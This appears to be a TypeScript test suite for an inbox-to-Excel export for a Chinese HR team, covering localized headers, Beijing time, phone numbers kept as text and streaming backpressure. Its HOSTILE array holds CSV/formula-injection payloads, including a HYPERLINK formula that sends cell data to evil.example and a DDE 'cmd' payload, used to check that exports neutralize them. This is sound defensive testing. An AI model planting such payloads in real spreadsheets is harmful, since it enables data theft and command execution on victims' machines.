import { randomBytes } from "node:crypto";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "@/db/client";
import { submissions } from "@/db/schema";
import { TEST_ENGINES, testDatabase } from "@/forms/server/testing";
import { addNote, setStatus } from "./store";
import { exportWorkbook, workbookStream } from "./workbook";

// Issue 41, item 4: the export for a Chinese HR team is a workbook — Chinese headers, labels,
// Beijing time, notes, phones as text — in which nothing a visitor typed can become a formula.

async function read(body: ReadableStream<Uint8Array>) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await new Response(body).arrayBuffer());
  const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
  const rows: ExcelJS.Row[] = [];
  sheet.eachRow((row) => {
    rows.push(row);
  });
  const headers = ((rows[0]?.values ?? []) as unknown[]).slice(1) as string[];
  /** A row's cells by header. */
  const byHeader = (row: ExcelJS.Row) => Object.fromEntries(headers.map((header, n) => [header, row.getCell(n + 1)]));
  return { sheet, headers, rows: rows.slice(1).map(byHeader) };
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"];

describe.each(TEST_ENGINES)("the inbox workbook (%s)", (engine) => {
  let database: Database;
  const ids: Record<string, string> = {};
  beforeAll(async () => {
    database = await testDatabase(engine);
    const add = async (
      key: string,
      formType: "application" | "message" | "inquiry",
      fields: Record<string, unknown>,
    ) => {
      const [row] = await database.db
        .insert(submissions)
        .values({
          formType,
          locale: key === "en" ? "en" : "zh",
          email: `${key}@example.com`,
          fields,
          ip: "192.0.2.1",
          ackTokenHash: `wb-${key}-${Math.random()}`,
          createdAt: new Date("2026-11-29T04:42:29.627Z"),
        })
        .returning({ id: submissions.id });
      ids[key] = row?.id as string;
    };
    await add("app", "application", {
      name: HOSTILE[0],
      contactPhone: "+8613812345678",
      contactEmail: "app@example.com",
      position: "production-planner",
      selfDescription: HOSTILE[1],
      resumeFileName: "cv.pdf",
    });
    await add("msg", "message", {
      name: "张三",
      appellation: "mr",
      phone: "021 5000 0000",
      email: "msg@example.com",
      city: HOSTILE[2],
      title: HOSTILE[3],
      content: "你好\u0007",
    });
    await add("en", "inquiry", {
      company: "ACME",
      contactName: "Jane Roe",
      email: "en@example.com",
      phone: "0044 20 7946 0000",
      country: "UK",
      waferDiameter: "300mm",
      waferType: "epitaxial",
      quantity: "5000",
    });
    await setStatus(database.db, ids.app as string, "interview", "hana");
    await addNote(database.db, ids.app as string, "周三二面", "hana");
  }, 60_000);
  afterAll(() => database?.close());

  const jobs = [{ slug: "production-planner", language: "zh", title: "生产计划专员" }];

  it("has Chinese headers, words for codes, Beijing time, notes and phones as text", async () => {
    const { rows, body } = await exportWorkbook(database.db, "application", "zh", {}, jobs);
    expect(rows).toBe(1);
    const sheet = await read(body);
    expect(sheet.headers).toEqual([
      "编号",
      "提交时间（北京时间）",
      "状态",
      "应聘职位",
      "姓名",
      "邮箱",
      "电话",
      "提交语言",
      "自我描述",
      "简历附件",
      "内部备注",
    ]);
    const [row] = sheet.rows;
    expect(row?.["提交时间（北京时间）"]?.value).toBe("2026-11-29 12:42:29");
    expect(row?.状态?.value).toBe("面试");
    expect(row?.应聘职位?.value).toBe("生产计划专员");
    expect(row?.电话?.value).toBe("+8613812345678");
    expect(row?.电话?.type).toBe(ExcelJS.ValueType.String);
    expect(String(row?.内部备注?.value)).toMatch(/hana：周三二面$/);
    expect(row?.提交语言?.value).toBe("中文");
  });

  it("keeps what a visitor typed as text: no formula, no apostrophe, unchanged", async () => {
    for (const [form, lang] of [
      ["application", "zh"],
      ["message", "en"],
    ] as const) {
      const sheet = await read((await exportWorkbook(database.db, form, lang, {}, jobs)).body);
      const cells = sheet.rows.flatMap((row) => Object.values(row));
      for (const value of form === "application" ? HOSTILE.slice(0, 2) : HOSTILE.slice(2)) {
        const cell = cells.find((c) => c.value === value);
        expect(cell, value).toBeDefined();
        expect(cell?.type).toBe(ExcelJS.ValueType.String);
        expect(cell?.formula).toBeUndefined();
      }
      expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    }
  });

  it("has English headers for English staff, and words for a title of address and a wafer type", async () => {
    const message = await read((await exportWorkbook(database.db, "message", "en", {}, [])).body);
    expect(message.headers.slice(0, 4)).toEqual(["Reference", "Received (Beijing time)", "Status", "Name"]);
    expect(message.rows[0]?.Appellation?.value).toBe("Mr.");
    expect(message.rows[0]?.Status?.value).toBe("New message");
    expect(message.rows[0]?.Message?.value).toBe("你好"); // a character XML cannot carry is dropped
    const inquiry = await read((await exportWorkbook(database.db, "inquiry", "zh", {}, [])).body);
    expect(inquiry.rows[0]?.姓名?.value).toBe("Jane Roe");
    expect(inquiry.rows[0]?.硅片类型?.value).toBe("外延片");
    expect(inquiry.rows[0]?.状态?.value).toBe("新询价");
    expect(inquiry.rows[0]?.提交语言?.value).toBe("英文");
  });
});

describe("the workbook stream", () => {
  it("writes the next rows only once the reader has taken the earlier ones", async () => {
    const total = 20_000;
    let pulled = 0;
    async function* rows() {
      for (let n = 0; n < total; n++) {
        pulled++;
        yield [String(n), randomBytes(300).toString("hex")];
      }
    }
    const body = workbookStream("sheet", ["n", "data"], rows(), 200, (error) => {
      throw error;
    });
    // Nobody reads for a while: the writer stops after about a megabyte, far from the whole.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    const early = pulled;
    expect(early).toBeGreaterThan(0);
    expect(early).toBeLessThan(total / 4);
    // Reading it all gives every row.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await new Response(body).arrayBuffer());
    expect(workbook.worksheets[0]?.rowCount).toBe(total + 1);
    console.log(`rows written before anything was read: ${early} of ${total}`);
  }, 60_000);
});
